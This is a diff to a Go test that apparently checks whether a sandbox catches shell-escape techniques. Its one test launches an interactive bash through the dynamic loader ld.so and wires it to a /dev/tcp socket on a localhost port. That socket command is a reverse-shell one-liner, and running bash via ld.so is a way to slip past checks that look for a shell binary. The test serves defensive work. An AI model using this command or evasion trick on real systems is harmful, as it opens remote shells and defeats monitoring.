@@ -60,12 +60,13 @@ func TestEscapeUnshareNamespaces(t *testing.T) {
 
 // bash run by the dynamic loader: the exec'd file is ld.so, not a shell.
 func TestEscapeThroughLdSo(t *testing.T) {
-	ldso, err := filepath.EvalSymlinks("/lib64/ld-linux-x86-64.so.2")
+	needHostRoot(t) // ldso is one of hostTools
+	file, err := filepath.EvalSymlinks(ldso)
 	if err != nil {
-		t.Skipf("no x86-64 dynamic loader: %v", err)
+		t.Fatalf("x86-64 dynamic loader: %v", err)
 	}
-	testTechnique(t, technique{name: "esc-ldso", shell: ldso, connects: true, args: func(port int) []string {
-		return []string{"/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec /lib64/ld-linux-x86-64.so.2 /bin/bash -i <&3 >&3 2>&3", port)}
+	testTechnique(t, technique{name: "esc-ldso", shell: file, connects: true, args: func(port int) []string {
+		return []string{"/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec %s /bin/bash -i <&3 >&3 2>&3", port, ldso)}
 	}})
 }
 
